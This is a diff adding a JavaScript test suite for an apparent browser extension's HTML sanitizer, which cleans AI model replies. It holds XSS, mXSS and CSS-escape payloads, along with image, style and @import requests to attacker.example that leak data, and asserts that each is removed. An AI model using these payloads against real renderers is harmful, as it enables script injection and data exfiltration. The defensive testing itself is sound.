@@ -0,0 +1,204 @@
+/**
+ * Pagetalk - sanitizer.js 测试：模型回复中的注入载荷 (见 sanitizer.test.html)
+ * 每个用例把 HTML 交给 sanitizeHtml，再检查结果中不含可执行的脚本、事件属性、
+ * 自动发出的远程请求，以及会影响整个面板的样式。
+ */
+
+const { sanitizeHtml } = window.PagetalkSanitizer;
+const results = [];
+
+/**
+ * @param {string} name
+ * @param {function} fn - 失败时抛出异常
+ */
+function test(name, fn) {
+    try {
+        fn();
+        results.push({ name, passed: true });
+    } catch (error) {
+        results.push({ name, passed: false, message: error.message });
+    }
+}
+
+/**
+ * @param {boolean} condition
+ * @param {string} message
+ */
+function assert(condition, message) {
+    if (!condition) throw new Error(message);
+}
+
+/**
+ * 把清理结果解析为 DOM (惰性的 <template>，不会执行或加载任何内容)
+ * @param {string} html
+ * @returns {DocumentFragment}
+ */
+function sanitizeToFragment(html) {
+    const template = document.createElement('template');
+    template.innerHTML = sanitizeHtml(html);
+    return template.content;
+}
+
+/**
+ * 结果中所有元素的属性名
+ * @param {DocumentFragment} fragment
+ * @returns {string[]}
+ */
+function attributeNames(fragment) {
+    return Array.from(fragment.querySelectorAll('*')).flatMap(element => Array.from(element.attributes, attribute => attribute.name.toLowerCase()));
+}
+
+// --- 脚本和事件属性 ---
+
+test('removes <script> with its content', () => {
+    const fragment = sanitizeToFragment('<p>hi</p><script>alert(1)</script>');
+    assert(!fragment.querySelector('script'), 'script element kept');
+    assert(!fragment.textContent.includes('alert'), 'script content kept as text');
+});
+
+test('removes on* event attributes', () => {
+    const fragment = sanitizeToFragment('<img src="data:image/png;base64,AAAA" onerror="alert(1)"><div onclick="alert(1)" onmouseover="x()">a</div>');
+    assert(!attributeNames(fragment).some(name => name.startsWith('on')), 'event attribute kept');
+});
+
+test('removes javascript: and data:text links', () => {
+    const fragment = sanitizeToFragment('<a href="javascript:alert(1)">a</a><a href=" jav&#x09;ascript:alert(1)">b</a><a href="data:text/html,<script>alert(1)</script>">c</a>');
+    assert(!fragment.querySelector('a[href]'), 'unsafe href kept');
+});
+
+test('keeps https links and opens them in a new tab', () => {
+    const link = sanitizeToFragment('<a href="https://example.com">a</a>').querySelector('a');
+    assert(link && link.getAttribute('href') === 'https://example.com', 'https link removed');
+    assert(link.getAttribute('target') === '_blank' && link.getAttribute('rel') === 'noopener noreferrer', 'link target not forced');
+});
+
+test('drops iframe, object, embed, form and svg <script>', () => {
+    const fragment = sanitizeToFragment('<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><form action="https://evil.example"><input name="q"></form><svg><script>alert(1)</script></svg>');
+    assert(!fragment.querySelector('iframe, object, embed, form, input, script'), 'dangerous element kept');
+});
+
+test('removes svg <a> javascript: hrefs and external <use> references', () => {
+    const fragment = sanitizeToFragment('<svg><a href="javascript:alert(1)"><text>x</text></a><use href="https://evil.example/sprite.svg#icon"></use><use xlink:href="#ok"></use></svg>');
+    assert(!fragment.querySelector('[href^="javascript"], use[href^="https"]'), 'unsafe svg reference kept');
+});
+
+// --- 自动发出的远程请求 (数据外泄) ---
+
+test('replaces remote images with a click-to-load placeholder', () => {
+    const fragment = sanitizeToFragment('<img src="https://attacker.example/?q=secret" alt="chart">');
+    assert(!fragment.querySelector('img'), 'remote <img> kept');
+    const placeholder = fragment.querySelector('span.remote-image');
+    assert(placeholder && placeholder.dataset.remoteSrc === 'https://attacker.example/?q=secret', 'placeholder missing');
+    assert(placeholder.textContent.includes('chart'), 'placeholder does not show the alt text');
+});
+
+test('keeps inline data: images', () => {
+    const fragment = sanitizeToFragment('<img src="data:image/png;base64,AAAA" alt="x">');
+    assert(fragment.querySelector('img[src^="data:image/png"]'), 'data image removed');
+});
+
+test('rejects data-remote-src with unsafe protocols', () => {
+    const fragment = sanitizeToFragment('<span class="remote-image" data-remote-src="javascript:alert(1)">x</span>');
+    assert(!attributeNames(fragment).includes('data-remote-src'), 'unsafe data-remote-src kept');
+});
+
+test('removes url() from style attributes', () => {
+    const fragment = sanitizeToFragment('<span style="background:url(https://attacker.example/?q=1)">a</span><span style="background:\\75rl(x)">b</span>');
+    assert(!attributeNames(fragment).includes('style'), 'style with url() kept');
+});
+
+test('removes srcset, background and other unlisted url attributes', () => {
+    const fragment = sanitizeToFragment('<img src="data:image/png;base64,AAAA" srcset="https://attacker.example/a.png 2x"><table background="https://attacker.example/b.png"><tr><td>x</td></tr></table>');
+    const names = attributeNames(fragment);
+    assert(!names.includes('srcset') && !names.includes('background'), 'url attribute kept');
+});
+
+// --- 属性白名单 ---
+
+test('drops class, style and data-* on tags that do not use them', () => {
+    const fragment = sanitizeToFragment('<p class="modal" style="color:red" data-tab="settings">a</p><li class="footer-tab" data-tab="chat">b</li>');
+    const names = attributeNames(fragment);
+    assert(!names.includes('class') && !names.includes('style') && !names.includes('data-tab'), 'attribute kept on <p>/<li>');
+});
+
+test('keeps renderer attributes on code blocks and highlight spans', () => {
+    const fragment = sanitizeToFragment('<pre class="code-block hljs language-js" data-code="YQ=="><code><span class="hljs-keyword">const</span></code></pre>');
+    assert(fragment.querySelector('pre.code-block[data-code="YQ=="]'), 'code block attributes removed');
+    assert(fragment.querySelector('span.hljs-keyword'), 'highlight.js class removed');
+});
+
+test('drops unknown data-* attributes on allowed tags', () => {
+    const fragment = sanitizeToFragment('<span data-message-id="x" data-action="delete">a</span>');
+    const names = attributeNames(fragment);
+    assert(!names.includes('data-message-id') && !names.includes('data-action'), 'unknown data-* kept');
+});
+
+test('removes position:fixed overlays', () => {
+    const fragment = sanitizeToFragment('<div style="position: fixed; inset: 0; z-index: 9999">Click here</div>');
+    assert(!attributeNames(fragment).includes('style'), 'fixed overlay style kept');
+});
+
+// --- SVG <style> ---
+
+test('scopes svg <style> to its diagram', () => {
+    const style = sanitizeToFragment('<svg id="m"><style>#m .node rect { fill: #fff; }</style></svg>').querySelector('style');
+    assert(style, 'safe svg style removed');
+    assert(/^@scope\s*\{/.test(style.textContent.trim()), 'svg style not wrapped in @scope');
+});
+
+test('drops svg <style> that tries to close @scope early', () => {
+    const payloads = [
+        '} body { display: none } .x {',
+        '/* { */ } body { display: none }',
+        '.a { content: "}" } body { display: none }',
+        '.a \\{ } body { display: none }'
+    ];
+    payloads.forEach(css => {
+        const fragment = sanitizeToFragment(`<svg><style>${css}</style></svg>`);
+        assert(!fragment.querySelector('style'), `style kept: ${css}`);
+    });
+});
+
+test('drops svg <style> with @import, url() or markup', () => {
+    ['@import "https://attacker.example/x.css";', '.a { background: url(https://attacker.example) }', '.a { color: red } &lt;img src=x onerror=alert(1)&gt;'].forEach(css => {
+        const fragment = sanitizeToFragment(`<svg><style>${css}</style></svg>`);
+        assert(!fragment.querySelector('style'), `style kept: ${css}`);
+        assert(!fragment.querySelector('img'), 'markup in style became an element');
+    });
+});
+
+test('drops html <style> elements', () => {
+    const fragment = sanitizeToFragment('<style>body { display: none }</style><p>a</p>');
+    assert(!fragment.querySelector('style'), 'html style kept');
+});
+
+// --- mXSS ---
+
+test('does not create elements when the result is parsed again', () => {
+    const payloads = [
+        '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
+        '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+        '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">'
+    ];
+    payloads.forEach(payload => {
+        const once = sanitizeHtml(payload);
+        const fragment = sanitizeToFragment(once);
+        assert(!attributeNames(fragment).some(name => name.startsWith('on')), `event attribute after re-parse: ${payload}`);
+        assert(!fragment.querySelector('img[src="x"]'), `img created after re-parse: ${payload}`);
+    });
+});
+
+// --- 结果 ---
+
+const failed = results.filter(result => !result.passed);
+const list = document.getElementById('results');
+results.forEach(result => {
+    const item = document.createElement('li');
+    item.className = result.passed ? 'pass' : 'fail';
+    item.textContent = result.passed ? result.name : `${result.name}: ${result.message}`;
+    list.appendChild(item);
+});
+document.getElementById('summary').textContent = `${results.length - failed.length}/${results.length} passed`;
+console.log(`sanitizer.js: ${results.length - failed.length}/${results.length} passed`);
+failed.forEach(result => console.error(`FAIL ${result.name}: ${result.message}`));
+window.PagetalkSanitizerTestResults = results;